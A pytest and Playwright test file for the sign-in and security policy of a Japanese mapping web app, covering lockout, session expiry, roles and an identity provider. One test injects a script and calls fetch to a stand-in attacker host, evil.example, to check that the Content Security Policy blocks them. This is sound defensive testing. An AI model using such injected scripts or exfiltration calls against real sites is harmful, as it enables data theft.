"""Sign-in as people meet it: in a real browser, on a desktop and on a phone, under the security policy."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from browser_server import ROOT, Watched, free_port, serving, wait_for
from fake_provider import Provider, running_provider
from playwright.sync_api import Browser, BrowserContext, Page, expect
from test_pages import MAP, colours, wait_for_map

from otsu_maps.access.roles import ROLES
from otsu_maps.i18n import say
from otsu_maps.ledger import accounts
from otsu_maps.ledger.store import FILE, Ledger

pytestmark = pytest.mark.browser

GOOD = "correct horse battery"
SIGN_IN = say("access.sign_in", "ja")
SIZES = {"desktop": (1400, 900), "phone": (390, 844)}


@pytest.fixture(scope="module")
def folder(demo_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo with an account of every role, named as the role, and one of the identity provider."""
    place = tmp_path_factory.mktemp("accounts")
    shutil.copytree(demo_folder / "snapshots", place / "snapshots")
    ledger = Ledger(f"sqlite:///{place / FILE}")
    for role in ROLES:
        accounts.add(ledger, role, role, GOOD, actor="tests", display_name=f"試験 {role}")
    accounts.add(ledger, "plan@city.jp", "planner", None, actor="tests", display_name="計画 担当")
    ledger.close()
    return place


@pytest.fixture(scope="module")
def guarded(folder: Path) -> Iterator[str]:
    """Address of a server with accounts."""
    with serving(folder) as address:
        yield address


@pytest.fixture
def ledger(folder: Path) -> Iterator[Ledger]:
    held = Ledger(f"sqlite:///{folder / FILE}")
    yield held
    held.close()


class Complaining(Watched):
    """A watched page that also writes down what the security policy refused."""

    def __init__(self, page: Page, server: str) -> None:
        super().__init__(page, server)
        self.refused: list[str] = []
        page.on(
            "console", lambda said: self.refused.append(said.text) if "Content Security Policy" in said.text else None
        )

    def sign_in(self, name: str, path: str = "/", password: str = GOOD) -> Page:
        """From a page that asks for it, through the form, back to that page."""
        self.go(path).locator("a.otsu-button").click()
        self.type(name, password)
        self.page.locator('[data-testid="stMainBlockContainer"] h1').first.wait_for(timeout=60_000)
        return self.page

    def type(self, name: str, password: str) -> None:
        self.page.get_by_label(say("access.name", "ja")).fill(name)
        self.page.get_by_label(say("access.password", "ja")).fill(password)
        self.page.get_by_role("button", name=SIGN_IN).click()

    def sidebar(self) -> Page:
        opener = self.page.locator('[data-testid="stExpandSidebarButton"]')
        if opener.is_visible():
            opener.click()
        return self.page


@pytest.fixture(scope="module", params=SIZES.values(), ids=SIZES)
def device(request: pytest.FixtureRequest, browser: Browser) -> Iterator[BrowserContext]:
    """What one person after the other uses."""
    context = bought(browser, *request.param)
    yield context
    context.close()


def bought(browser: Browser, width: int, height: int) -> BrowserContext:
    return browser.new_context(viewport={"width": width, "height": height}, locale="ja-JP", color_scheme="light")


@pytest.fixture
def person(device: BrowserContext, guarded: str) -> Iterator[Complaining]:
    """Somebody at it, not signed in."""
    device.clear_cookies()
    page = device.new_page()
    page.goto(f"{guarded}/healthz")
    page.evaluate("localStorage.clear()")  # the app keeps there whether its menu was open
    yield Complaining(page, guarded)
    page.close()


def is_asked(page: Page) -> None:
    """The page shows the way to sign in, and nothing of the data."""
    expect(page.locator("a.otsu-button")).to_be_visible(timeout=40_000)
    for part in (".otsu-demo", MAP, '[data-testid="stDataFrame"]', '[data-testid="stPageLink"]'):
        expect(page.locator(part)).to_have_count(0)
    assert "出典" not in page.locator('[data-testid="stMain"]').inner_text()


def test_sign_in_reload_and_sign_out(person: Complaining) -> None:
    page = person.sign_in("viewer", "/hazards?hazard=landslide")
    expect(page.locator("h1").first).to_have_text(say("hazards.title", "ja"))
    assert "hazard=landslide" in page.url
    page.reload()
    expect(page.locator(".otsu-demo")).to_be_visible(timeout=60_000)
    desk = person.sidebar().locator(".otsu-desk")
    expect(desk).to_contain_text("試験 viewer")
    expect(desk).to_contain_text("役割：閲覧")
    desk.get_by_role("button", name=say("access.sign_out", "ja")).click()
    expect(page.get_by_role("status")).to_have_text(say("access.signed_out", "ja"))
    is_asked(person.go("/hazards"))
    page.go_back()
    is_asked(person.go("/"))
    assert person.outside == []


def test_a_map_is_drawn_under_the_policy_which_refuses_nothing_that_is_needed(person: Complaining) -> None:
    page = person.sign_in("viewer", "/hazards")
    wait_for_map(page)
    assert colours(page, MAP) > 12
    for path in ("/", "/transit", "/people_flow", "/events", "/sources"):
        person.go(path)
    assert person.refused == []
    assert person.outside == []


def test_the_policy_stops_a_script_that_got_into_a_page_and_what_it_would_send(person: Complaining) -> None:
    page = person.sign_in("viewer")
    page.evaluate(
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.evil = 1'}))"
    )
    sent = page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'stopped')")
    assert page.evaluate("window.evil") is None
    assert sent == "stopped"
    assert len(person.refused) >= 2


def test_a_wrong_password_is_told_and_after_five_the_wait(person: Complaining, request: pytest.FixtureRequest) -> None:
    name = f"guess-{request.node.callspec.id}"
    page = person.page
    page.goto(f"{person.server}/sign-in")
    for _ in range(5):
        person.type(name, "wrong")
        expect(page.get_by_role("alert")).to_contain_text(say("reason.access_wrong", "ja"))
    assert page.get_by_label(say("access.name", "ja")).input_value() == name
    expect(page.get_by_label(say("access.password", "ja"))).to_be_focused()
    person.type(name, "wrong")
    expect(page.get_by_role("alert")).to_contain_text("秒は受け付けません")


def test_the_form_fits_the_screen_and_can_be_touched(person: Complaining) -> None:
    page = person.page
    for path in ("/sign-in", "/sign-in?lang=en"):
        page.goto(person.server + path)
        expect(page.locator("#name")).to_be_focused()
        assert page.evaluate("document.scrollingElement.scrollWidth <= window.innerWidth")
        for part in page.locator("input:not([type=hidden]), button").all():
            assert part.bounding_box()["height"] >= 44  # type: ignore[index]
    assert person.outside == []


def test_at_a_shared_desk_the_person_is_changed_in_one_step(person: Complaining) -> None:
    page = person.sign_in("reception", "/events")
    person.sidebar().locator(".otsu-desk input[name=person]").fill("担当 二号")
    page.get_by_role("button", name=say("access.change_person", "ja")).click()
    page.wait_for_load_state()
    page.locator('[data-testid="stMainBlockContainer"] h1').first.wait_for(timeout=60_000)
    expect(person.sidebar().locator(".otsu-desk")).to_contain_text("担当：担当 二号")
    assert "/events" in page.url


def test_a_page_left_alone_goes_blank_by_itself(browser: Browser, guarded: str, ledger: Ledger) -> None:
    contexts = [bought(browser, *size) for size in SIZES.values()]
    pages = [Complaining(context.new_page(), guarded).sign_in("headquarters", "/sources") for context in contexts]
    for page in pages:
        expect(page.locator(".otsu-demo")).to_be_visible(timeout=60_000)
    with ledger.writing() as connection:  # as if everybody had gone for two hours
        table = accounts.tables.session
        connection.execute(table.update().values(seen_at=accounts.clock.now() - timedelta(hours=2)))
    for page in pages:
        is_asked(page)
        expect(page.get_by_text(say("access.sign_in_again", "ja"))).to_be_visible()
        page.context.close()


def test_what_the_menu_hides_the_address_does_not_open(person: Complaining) -> None:
    page = person.sign_in("planner")
    expect(person.sidebar().get_by_role("link", name=say("nav.accounts", "ja"))).to_have_count(0)
    page = person.go("/accounts")
    expect(page.locator("h1").first).to_have_text(say("access.page_refused", "ja"))
    expect(page.locator('[data-testid="stDataFrame"]')).to_have_count(0)


def test_an_administrator_adds_an_account_which_can_sign_in(
    person: Complaining, request: pytest.FixtureRequest
) -> None:
    name = f"new-{request.node.callspec.id}"
    page = person.sign_in("administrator", "/accounts")
    form = page.locator('[data-testid="stForm"]').first
    form.get_by_label(say("accounts.name", "ja"), exact=True).fill(name)
    form.get_by_label(say("accounts.password", "ja"), exact=True).fill(GOOD)
    form.get_by_label(say("accounts.again", "ja"), exact=True).fill(GOOD)
    form.get_by_role("button", name=say("accounts.add_now", "ja")).click()
    expect(page.get_by_text(say("accounts.added", "ja", name=name))).to_be_visible(timeout=20_000)
    page.context.clear_cookies()
    page = person.sign_in(name, "/sources")
    expect(page.locator("h1").first).to_have_text(say("sources.title", "ja"))


def test_the_form_works_without_javascript(browser: Browser, guarded: str) -> None:
    context = browser.new_context(java_script_enabled=False, locale="en-US")
    page = context.new_page()
    page.goto(f"{guarded}/sign-in")
    page.get_by_label(say("access.name", "en")).fill("viewer")
    page.get_by_label(say("access.password", "en")).fill(GOOD)
    page.keyboard.press("Enter")
    page.wait_for_url(f"{guarded}/")
    (cookie,) = (cookie for cookie in context.cookies() if cookie["name"] == "otsu_session")
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
    context.close()


# the identity provider


@pytest.fixture(scope="module")
def provider() -> Iterator[Provider]:
    with running_provider("Plan@city.jp") as held:
        yield held


@pytest.fixture(scope="module")
def with_provider(folder: Path, provider: Provider, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Address of a server whose secrets name the provider."""
    home, port = tmp_path_factory.mktemp("home"), free_port()
    address = f"http://127.0.0.1:{port}"
    (home / ".streamlit").mkdir()
    (home / ".streamlit" / "secrets.toml").write_text(provider.secrets(address), "utf-8")
    settings = {"OTSU_DATA_DIR": str(folder), "OTSU_PORT": str(port), "OTSU_LANG": "ja", "HOME": str(home)}
    command = [sys.executable, "-m", "otsu_maps.cli", "serve"]
    process = subprocess.Popen(
        command, cwd=ROOT, env=os.environ | settings, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        wait_for(f"{address}/healthz", process)
        yield address
    finally:
        process.terminate()
        process.wait(20)


@pytest.fixture
def employee(browser: Browser, with_provider: str) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1400, "height": 900}, locale="ja-JP")
    yield context.new_page()
    context.close()


def through_the_provider(page: Page, server: str) -> None:
    page.goto(server)
    page.get_by_role("button", name=say("access.with_provider", "ja")).click(timeout=60_000)


def test_an_employee_signs_in_through_the_provider_changes_person_and_signs_out(
    employee: Page, with_provider: str, provider: Provider
) -> None:
    provider.email = "Plan@city.jp"
    through_the_provider(employee, with_provider)
    desk = employee.locator(".otsu-desk")
    expect(desk).to_contain_text("計画 担当", timeout=60_000)
    expect(desk).to_contain_text("役割：計画")
    desk.locator("input[name=person]").fill("代理 一郎")
    desk.get_by_role("button", name=say("access.change_person", "ja")).click()
    expect(desk).to_contain_text("担当：代理 一郎", timeout=60_000)
    kept = employee.context.cookies()
    desk.get_by_role("button", name=say("access.sign_out", "ja")).click()
    expect(employee.get_by_role("status")).to_have_text(say("access.signed_out", "ja"))
    employee.context.add_cookies(kept)  # type: ignore[arg-type]  # as a browser that kept the provider's cookie
    employee.goto(with_provider)
    is_asked(employee)
    expect(employee.get_by_text(say("access.sign_in_again", "ja"))).to_be_visible()


def test_an_address_without_an_account_is_told_so_and_sees_nothing(
    employee: Page, with_provider: str, provider: Provider
) -> None:
    provider.email = "stranger@elsewhere.example"
    through_the_provider(employee, with_provider)
    sentence = say("reason.access_unknown_address", "ja", address="stranger@elsewhere.example")
    expect(employee.get_by_text(sentence)).to_be_visible(timeout=60_000)
    expect(employee.locator('[data-testid="stDataFrame"]')).to_have_count(0)
    expect(employee.locator(".otsu-demo")).to_have_count(0)
    answer = employee.request.get(f"{with_provider}/media/none")
    assert answer.status == 401
